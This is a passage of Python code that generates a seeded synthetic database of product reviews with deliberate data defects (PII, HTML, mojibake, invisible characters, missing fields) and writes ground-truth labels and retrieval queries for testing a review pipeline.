                parts, sentence, at_end=pii_kind == "person" or rng.random() < 0.5
            )
            label["pii"] = [{"entity": pii.PII_ENTITY[pii_kind], "text": value}]
        elif kind == "html":
            row["review_text"] = self._html(parts)
        elif kind == "mojibake":
            row["review_text"] = self._mojibake(text, star)
        elif kind == "zero_width_control":
            row["review_text"] = self._invisible(text)
        elif kind == "bad_rating":
            row["review_text"] = text
            row["star_rating"] = rng.choice(BAD_RATINGS)
        elif kind == "missing_product_id":
            row["review_text"] = text
            row["product_id"] = rng.choice((None, "", None))
        elif kind == "missing_review_id":
            row["review_text"] = text
            row["review_id"] = label["review_id"] = None
        elif kind == "non_string_text":
            if rng.random() < 0.5:
                row["review_text"] = rng.choice((0, 5, 42, rng.randint(100, 10**9)))
                label["language"] = None
            else:
                row["review_text"] = text.encode("utf-8")
        else:
            raise ValueError(f"unknown defect kind {kind!r}")
        return True


def join_parts(parts: list[str]) -> str:
    return " ".join(parts).replace(" \n\n ", "\n\n")


def iter_labelled_reviews(
    seed: int = 7,
    products: int = 60,
    mean_reviews_per_product: int = 30,
    days: int = 14,
    end_date: date = DEFAULT_END_DATE,
    defect_rate: float = 0.12,
    *,
    defect_weights: Mapping[str, float] | None = None,
    huge: bool | None = None,
) -> Iterator[tuple[dict[str, Any], dict[str, Any]]]:
    """(row, label) pairs in `created_at` order: the row as the database gets it, and its ground truth.

    `defect_weights` replaces the default mix of defect kinds (e.g. {"toxic": 1.0} with a high
    `defect_rate` for a labelled toxicity set); `huge` forces the single ~1 MB review on or off
    (by default it is present when there are at least 500 rows and any defects).
    """
    generator = _Generator(
        seed, products, mean_reviews_per_product, days, end_date, defect_rate, defect_weights, huge
    )
    return generator.records()


def iter_reviews(
    seed: int = 7,
    products: int = 60,
    mean_reviews_per_product: int = 30,
    days: int = 14,
    end_date: date = DEFAULT_END_DATE,
    defect_rate: float = 0.12,
    *,
    defect_weights: Mapping[str, float] | None = None,
    huge: bool | None = None,
) -> Iterator[dict[str, Any]]:
    """The rows alone, exactly as `generate` writes them, for benchmarks that need volume, not a file."""
    for row, _ in iter_labelled_reviews(
        seed,
        products,
        mean_reviews_per_product,
        days,
        end_date,
        defect_rate,
        defect_weights=defect_weights,
        huge=huge,
    ):
        yield row


def sample_products(
    seed: int = 7, products: int = 60, mean_reviews_per_product: int = 30
) -> list[dict[str, Any]]:
    """The catalogue's ground truth (what products.jsonl holds) without generating any review."""
    generator = _Generator(seed, products, mean_reviews_per_product, 1, DEFAULT_END_DATE, 0.0, None, False)
    return [p.ground_truth() for p in generator.products]


def _write_jsonl(path: Path, records: list[dict[str, Any]]) -> None:
    tmp = path.with_name(path.name + ".tmp")
    with tmp.open("w", encoding="utf-8") as out:
        for record in records:
            out.write(json.dumps(record, ensure_ascii=False) + "\n")
    os.replace(tmp, path)


def generate(
    db_path: Path,
    ground_truth_dir: Path,
    *,
    seed: int = 7,
    products: int = 60,
    mean_reviews_per_product: int = 30,
    days: int = 14,
    end_date: date = DEFAULT_END_DATE,
    defect_rate: float = 0.12,
    defect_weights: Mapping[str, float] | None = None,
    huge: bool | None = None,
) -> GenerationSummary:
    """Write the source database and its ground truth from scratch; the same arguments give the same rows.

    The database is built beside its final path and moved over it, so a reader never sees half a seed and a
    re-run replaces, never appends.
    """
    db_path, ground_truth_dir = Path(db_path), Path(ground_truth_dir)
    db_path.parent.mkdir(parents=True, exist_ok=True)
    ground_truth_dir.mkdir(parents=True, exist_ok=True)
    generator = _Generator(
        seed, products, mean_reviews_per_product, days, end_date, defect_rate, defect_weights, huge
    )
    building = db_path.with_name(db_path.name + ".building")
    building.unlink(missing_ok=True)
    by_language: Counter[str] = Counter()
    by_star: Counter[int] = Counter()
    by_defect: Counter[str] = Counter()
    quarantined = 0
    labels_path = ground_truth_dir / "review_labels.jsonl"
    labels_tmp = labels_path.with_name(labels_path.name + ".tmp")
    conn = sqlite3.connect(building)
    try:
        conn.execute("PRAGMA journal_mode = OFF")
        conn.execute("PRAGMA synchronous = OFF")
        conn.executescript(SCHEMA)
        conn.executemany(
            "INSERT INTO products (product_id, category, title) VALUES (?, ?, ?)",
            [(p.product_id, p.category, p.title) for p in generator.products],
        )
        batch: list[tuple] = []
        with labels_tmp.open("w", encoding="utf-8") as labels_out:
            for row, label in generator.records():
                batch.append((label["rowid"], *(row[c] for c in REVIEW_COLUMNS)))
                labels_out.write(json.dumps(label, ensure_ascii=False) + "\n")
                by_language[label["language"] or "none"] += 1
                by_star[label["star"]] += 1
                by_defect.update(label["defects"])
                quarantined += label["expected_outcome"] == "quarantine"
                if len(batch) >= 5000:
                    conn.executemany(INSERT_REVIEW, batch)
                    batch = []
            conn.executemany(INSERT_REVIEW, batch)
        conn.execute(CREATED_AT_INDEX)
        conn.commit()
    finally:
        conn.close()
    os.replace(building, db_path)
    os.replace(labels_tmp, labels_path)
    _write_jsonl(ground_truth_dir / "products.jsonl", [p.ground_truth() for p in generator.products])
    with labels_path.open(encoding="utf-8") as labels_in:
        queries = aspect_queries(json.loads(line) for line in labels_in)
    _write_jsonl(ground_truth_dir / RETRIEVAL_QUERIES_FILE, queries)
    return GenerationSummary(
        db_path=str(db_path),
        ground_truth_dir=str(ground_truth_dir),
        rows=generator.total_rows,
        products=len(generator.products),
        expected_quarantine=quarantined,
        by_language=dict(sorted(by_language.items())),
        by_star=dict(sorted(by_star.items())),
        by_defect=dict(sorted(by_defect.items())),
        by_profile=dict(sorted(Counter(p.profile for p in generator.products).items())),
    )
